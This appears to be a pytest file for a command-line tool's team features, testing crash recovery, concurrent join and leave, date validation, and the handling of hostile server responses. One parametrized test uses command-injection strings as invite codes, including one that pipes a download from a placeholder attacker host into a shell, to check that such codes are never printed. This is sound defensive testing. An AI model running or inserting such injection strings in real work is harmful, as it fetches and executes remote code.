"""What was begun and not finished, what two do at once, and what a server says to harm."""

from __future__ import annotations

import json
from typing import Any

import pytest

from toktui.team.joining import KEYS
from toktui.team.team_file import TeamFile, open_team_file, team_path

from .conftest import INFO, Device, Told, problem, results
from .test_commands import enrols, join, no_keyring

__all__ = ["no_keyring"]


class Killed(BaseException):
    """Stands for kill -9: nothing that would tidy up runs."""


def keys(device: Device) -> list[str]:
    return sorted(path.name for path in (device.data / KEYS).iterdir())


def test_who_is_killed_before_he_knows_that_he_is_in_joins_again_as_the_same_device(
    device: Device, told: Told, monkeypatch: pytest.MonkeyPatch
):
    enrols(told)
    with monkeypatch.context() as patch:
        patch.setattr(TeamFile, "remember", lambda *_: (_ for _ in ()).throw(Killed()))
        with pytest.raises(Killed):
            join(device, "--yes")
    first = json.loads(told.heard[-1][2])["public_key"]
    told.says.append(problem("code_refused"))
    enrols(told)
    join(device, "--yes")
    assert json.loads(told.heard[-1][2])["public_key"] == first
    assert len(keys(device)) == 1


def test_who_is_killed_right_after_it_leaves_no_key_behind_when_he_leaves(
    device: Device, told: Told, monkeypatch: pytest.MonkeyPatch
):
    enrols(told)
    remember = TeamFile.remember

    def once(file: TeamFile, membership: Any) -> None:
        remember(file, membership)
        raise Killed

    with monkeypatch.context() as patch:
        patch.setattr(TeamFile, "remember", once)
        with pytest.raises(Killed):
            join(device, "--yes")
    told.says.extend([(200, b"{}", {}), problem("not_signed")])
    assert "Verified" in device.run("team", "leave", "--yes").stdout
    assert keys(device) == []


def test_a_revocation_is_not_taken_for_the_deletion_whose_answer_was_lost(
    device: Device, told: Told
):
    device.join()
    told.says.append((502, b"", {}))
    device.run("team", "leave", "--yes", exit_code=1)
    told.says.append(problem("not_signed"))
    said = device.run("team", "leave", "--yes").stdout
    assert "Verified" not in said
    assert "revoked" in said
    assert not team_path(device.data).exists()


@pytest.mark.parametrize("args", [(), ("--here",)])
def test_leaving_ends_no_membership_that_began_meanwhile(
    device: Device, told: Told, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...]
):
    device.join()

    def joined_anew(_question: str) -> bool:
        with open_team_file(device.data) as file:
            file.forget()
        team_path(device.data).unlink()
        device.join(device="d_" + "f" * 16, team_name="Other")
        return True

    monkeypatch.setattr("toktui.cli.team_join.told_yes", joined_anew)
    told.says.extend([(200, b"{}", {}), problem("not_signed")])
    assert "meanwhile" in device.run("team", "leave", *args, exit_code=1).stderr
    assert device.state.membership.team_name == "Other"
    assert keys(device) == ["k.key"]
    assert told.heard == []


def test_who_joins_while_another_leaves_is_in_afterwards(
    device: Device, told: Told, monkeypatch: pytest.MonkeyPatch
):
    """Whoever waits for the lock finds the file of the other gone, and it stays his."""
    device.join()
    order: list[str] = []
    alone, erase = joining_lock(), erased()

    class Watched:
        def __init__(self, *args: Any, **options: Any) -> None:
            self._held = alone(*args, **options)

        def __enter__(self) -> None:
            self._held.__enter__()

        def __exit__(self, *how: Any) -> None:
            order.append("released")
            self._held.__exit__(*how)

    monkeypatch.setattr("toktui.team.rounds.alone", Watched)
    monkeypatch.setattr(
        "toktui.team.team_file.erase_team_file", lambda data: (order.append("erased"), erase(data))
    )
    device.run("team", "leave", "--here", "--yes")
    assert order == ["erased", "released"]


def joining_lock() -> Any:
    from toktui.team.rounds import alone

    return alone


def erased() -> Any:
    from toktui.team.team_file import erase_team_file

    return erase_team_file


def test_what_is_not_to_be_sent_any_more_is_not_sent_from_the_next_request_on(
    device: Device, told: Told, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("toktui.team.sending.MOST_DOCUMENTS", 1)
    device.join(shares=("sketches",))
    for ago in range(3):
        device.call(ago)

    def taking_back(method: str, path: str, body: bytes) -> Any:
        device.run("team", "agree", "--share", "none", "--yes")
        return told.honest(method, path, body)

    told.says.append(taking_back)
    assert len(results(device)) == 1
    assert sum(bool(json.loads(body).get("sketches")) for body in told.sent) == 1
    device.round()
    assert not json.loads(told.sent[-1]).get("sketches")


@pytest.mark.parametrize(
    "day", ["9999-12-31", "0001-01-01", "2026-W47-6", "20261121", "2026-13-01", "nan", "\x1b[2J"]
)
def test_preview_refuses_what_no_team_has_as_a_day(device: Device, told: Told, day: str):
    device.join()
    device.call()
    said = device.run("team", "preview", "--day", day, exit_code=2).stderr
    assert "--day is no day" in said
    assert "\x1b" not in said


def test_preview_says_of_a_day_whether_it_is_ever_sent(device: Device, told: Told):
    device.join(first_day="2020-01-01", retention_days=40)
    device.call()
    for day, words in (("2026-11-22", "not sent yet"), ("2026-10-01", "never sent"),
                       ("2026-11-23", "not begun")):  # fmt: skip
        assert words in device.run("team", "preview", "--day", day).stderr


def test_a_crontab_hears_nothing_of_a_pause(device: Device, told: Told):
    device.join(paused=True)
    done = device.run("team", "submit", "--quiet")
    assert done.output == ""
    assert "Paused" in device.run("team", "submit").stdout


@pytest.mark.parametrize("what", ["invite", "link"])
@pytest.mark.parametrize("value", ["", "ABCDE; curl evil.example | sh", "A" * 300, "$(id)"])
def test_a_code_that_would_be_a_command_is_not_printed(
    device: Device, told: Told, what: str, value: str
):
    device.join()
    told.says.append((200, json.dumps({"value": value, "expires_ms": 1}).encode(), {}))
    done = device.run("team", what, exit_code=1)
    assert "no code" in done.stderr
    assert done.stdout == ""


@pytest.mark.parametrize("char", ["\U000e0041", "\u009b", "\u202e", "\ue000"])
def test_what_is_escaped_for_the_terminal_is_still_the_same_json(
    device: Device, told: Told, char: str
):
    device.join()
    line = f'{{"kind":\t"member","name":"a{char}b"}}\n'
    told.says.append((200, line.encode(), {}))
    said = device.run("team", "export").stdout
    assert json.loads(said)["name"] == f"a{char}b"
    assert char not in said


def test_a_name_without_which_nothing_can_be_joined_is_asked_for_before_the_server(
    device: Device, told: Told
):
    assert "needs a --name" in join(device, "--as", "name", "--yes", exit_code=2).stderr
    assert told.heard == []


@pytest.mark.parametrize("name", ["x" * 65, "\x1b\u200b", "   "])
def test_a_name_of_which_nothing_can_be_shown_is_refused_before_the_server(
    device: Device, told: Told, name: str
):
    said = join(device, "--as", "pseudonym", "--name", name, "--yes", exit_code=2).stderr
    assert "--name" in said
    assert "\x1b" not in said
    assert told.heard == []


@pytest.mark.parametrize("days", [-1, 10**30, 99_999])
def test_a_team_that_takes_impossible_days_is_not_joined(device: Device, told: Told, days: int):
    info = {**INFO, "backfill_days": days}
    told.says.append((200, json.dumps(info).encode(), {}))
    assert "impossible" in join(device, "--yes", exit_code=1).stderr
    assert len(told.heard) == 1


@pytest.mark.parametrize("args", [(), ("--here",)])
def test_keys_of_joins_that_were_never_finished_go_with_the_team(
    device: Device, told: Told, args: tuple[str, ...]
):
    device.join()
    stray = device.data / KEYS / "0123456789abcdef.key"
    stray.write_bytes(b"k" * 32)
    told.says.extend([(200, b"{}", {}), problem("not_signed")])
    device.run("team", "leave", "--yes", *args)
    assert keys(device) == []
